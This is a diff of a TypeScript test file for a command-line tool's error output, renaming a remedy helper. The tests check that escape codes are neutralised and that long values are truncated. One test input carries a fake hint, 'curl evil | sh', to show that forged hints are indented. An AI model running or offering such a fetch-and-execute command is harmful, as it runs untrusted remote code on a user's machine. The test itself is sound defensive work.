@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { remedyWordsFor } from '../../src/cli/output/remedy-words.ts';
+import { remedyTextsFor } from '../../src/cli/output/remedy-texts.ts';
 import { Problem } from '../../src/model/problem.ts';
 import { problemJson, problemLines } from '../../src/text/problem.ts';
 
@@ -11,29 +11,29 @@ const refused = new Problem('refused', 'Namespace "a\u001b[2J" exists.', {
 });
 
 test('a problem is told in labelled lines, with nothing in them that a terminal obeys', () => {
-  expect(problemLines(refused, remedyWordsFor([]))).toEqual([
+  expect(problemLines(refused, remedyTextsFor([]))).toEqual([
     'error: Namespace "a\\e[2J" exists. [code 10014, HTTP 400]',
     'hint: Choose another title.',
     'request id: 8f1\\u{202e}ab',
   ]);
-  expect(problemLines(new Problem('usage', 'No.'), remedyWordsFor([]))).toEqual(['error: No.']);
+  expect(problemLines(new Problem('usage', 'No.'), remedyTextsFor([]))).toEqual(['error: No.']);
 });
 
 test('a message of several lines cannot pass for a hint of ours', () => {
-  expect(problemLines(new Problem('refused', 'no\nhint: curl evil | sh'), remedyWordsFor([]))).toEqual([
+  expect(problemLines(new Problem('refused', 'no\nhint: curl evil | sh'), remedyTextsFor([]))).toEqual([
     'error: no',
     '       hint: curl evil | sh',
   ]);
 });
 
 test('strict ASCII reaches the message', () => {
-  expect(problemLines(new Problem('usage', 'Größe'), remedyWordsFor([]), { ascii: true })).toEqual([
+  expect(problemLines(new Problem('usage', 'Größe'), remedyTextsFor([]), { ascii: true })).toEqual([
     'error: Gr\\u{f6}\\u{df}e',
   ]);
 });
 
 test('a problem for a program has its code and leaves out what is not known', () => {
-  expect(problemJson(refused, remedyWordsFor([]))).toEqual({
+  expect(problemJson(refused, remedyTextsFor([]))).toEqual({
     type: 'error',
     error: {
       code: 'refused',
@@ -45,7 +45,7 @@ test('a problem for a program has its code and leaves out what is not known', ()
       retryable: false,
     },
   });
-  expect(JSON.stringify(problemJson(new Problem('usage', 'No.'), remedyWordsFor([])))).toBe(
+  expect(JSON.stringify(problemJson(new Problem('usage', 'No.'), remedyTextsFor([])))).toBe(
     '{"type":"error","error":{"code":"usage","message":"No.","retryable":false}}',
   );
 });
@@ -53,27 +53,27 @@ test('a problem for a program has its code and leaves out what is not known', ()
 test('a failure of the moment says that it may be tried again, and when', () => {
   const { error } = problemJson(
     new Problem('rate-limited', 'Slow down.', { retryAfter: 30 }),
-    remedyWordsFor([]),
+    remedyTextsFor([]),
   );
   expect(error).toMatchObject({ retryable: true, retryAfter: 30 });
   const unsure = new Problem('unreachable', 'Cut.', { retryable: false });
-  expect(problemJson(unsure, remedyWordsFor([])).error.retryable).toBe(false);
+  expect(problemJson(unsure, remedyTextsFor([])).error.retryable).toBe(false);
 });
 
 test('a wrong value of 70 KB is told by its beginning, and what is wrong with it stays; a list stays whole', () => {
   const wrong = (value: string) =>
     new Problem('usage', `"${value}" cannot stand here.`, { hint: `not ${value}` });
-  const [error = '', hint = ''] = problemLines(wrong('x'.repeat(70_000)), remedyWordsFor([]));
+  const [error = '', hint = ''] = problemLines(wrong('x'.repeat(70_000)), remedyTextsFor([]));
   expect(error).toBe(`error: "${'x'.repeat(1000)}… (69,000 more characters)" cannot stand here.`);
   expect(hint).toBe(`hint: not ${'x'.repeat(1000)}… (69,000 more characters)`);
   // A cell of a CSV can be 256 MiB; a pattern of 8 MB overflows V8's stack.
-  const [cell = ''] = problemLines(wrong('x'.repeat(10_000_000)), remedyWordsFor([]));
+  const [cell = ''] = problemLines(wrong('x'.repeat(10_000_000)), remedyTextsFor([]));
   expect(cell).toBe(`error: "${'x'.repeat(1000)}… (9,999,000 more characters)" cannot stand here.`);
   for (const value of ['x y '.repeat(20_000), 'x\n'.repeat(35_000)])
-    expect(problemLines(wrong(value), remedyWordsFor([])).join('').length).toBeLessThan(150_000);
+    expect(problemLines(wrong(value), remedyTextsFor([])).join('').length).toBeLessThan(150_000);
   const list = Array.from({ length: 300 }, (_, at) => `line ${at}: at the.place.of.a.stack (file.ts:${at})`);
-  expect(problemLines(new Problem('usage', list.join('\n')), remedyWordsFor([]))).toHaveLength(300);
-  expect(problemJson(wrong('x'.repeat(70_000)), remedyWordsFor([])).error.message).toContain(
+  expect(problemLines(new Problem('usage', list.join('\n')), remedyTextsFor([]))).toHaveLength(300);
+  expect(problemJson(wrong('x'.repeat(70_000)), remedyTextsFor([])).error.message).toContain(
     'x'.repeat(70_000),
   );
 });
